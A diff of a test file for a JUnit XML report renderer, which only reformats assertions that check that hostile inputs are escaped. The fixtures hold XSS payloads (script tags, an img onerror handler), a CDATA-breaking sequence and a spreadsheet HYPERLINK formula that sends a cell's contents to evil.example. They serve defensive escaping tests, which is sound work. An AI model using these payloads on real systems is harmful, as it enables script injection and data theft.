@@ -32,14 +32,20 @@ describe('renderReportJunit', () => {
     expect(xml).not.toContain('<img');
     expect(xml).not.toMatch(/]]>/);
     // Markup in an attribute, then in the failure's text; line breaks in attributes stay references.
-    expect(xml).toContain('message="the readiness probe answered 503: &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt; ]]&gt; &amp;amp;"');
-    expect(xml).toContain('>the readiness probe answered 503: &lt;script&gt;alert("x")&lt;/script&gt; "&gt;&lt;img src=x onerror=alert(1)&gt; ]]&gt; &amp;amp;\nseverity: CRITICAL\n');
+    expect(xml).toContain(
+      'message="the readiness probe answered 503: &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt; ]]&gt; &amp;amp;"',
+    );
+    expect(xml).toContain(
+      '>the readiness probe answered 503: &lt;script&gt;alert("x")&lt;/script&gt; "&gt;&lt;img src=x onerror=alert(1)&gt; ]]&gt; &amp;amp;\nseverity: CRITICAL\n',
+    );
     expect(xml).toContain('name="vm i-0a1b2c3d4e5f60001 (=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;))"');
     expect(xml).toContain('first line&#13;&#10;second, &quot;quoted&quot; line&#13;third"');
   });
 
   it('escapes text and attribute values', () => {
-    expect(xmlText('a < b && c > d\r\n\u0000\u001b\ufffe\ud800\u{1F600}')).toBe('a &lt; b &amp;&amp; c &gt; d&#13;\n\uFFFD\uFFFD\uFFFD\uFFFD\u{1F600}');
+    expect(xmlText('a < b && c > d\r\n\u0000\u001b\ufffe\ud800\u{1F600}')).toBe(
+      'a &lt; b &amp;&amp; c &gt; d&#13;\n\uFFFD\uFFFD\uFFFD\uFFFD\u{1F600}',
+    );
     expect(xmlAttribute(`"'\t\n<&`)).toBe('&quot;&apos;&#9;&#10;&lt;&amp;');
   });
 
